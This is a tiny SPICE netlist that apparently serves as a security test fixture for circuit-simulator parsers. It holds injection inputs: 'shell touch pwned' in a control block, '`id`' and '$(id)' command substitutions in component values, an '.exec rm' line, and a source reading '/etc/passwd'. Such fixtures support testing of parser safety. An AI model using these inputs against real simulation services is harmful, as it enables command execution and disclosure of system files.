* commands
*# shell touch pwned
V1 a 0 1
R1 a 0 `id`
R2 a 0 $(id)
.exec rm
V2 b 0 pwl(file=/etc/passwd)
.control
shell touch pwned
.endc
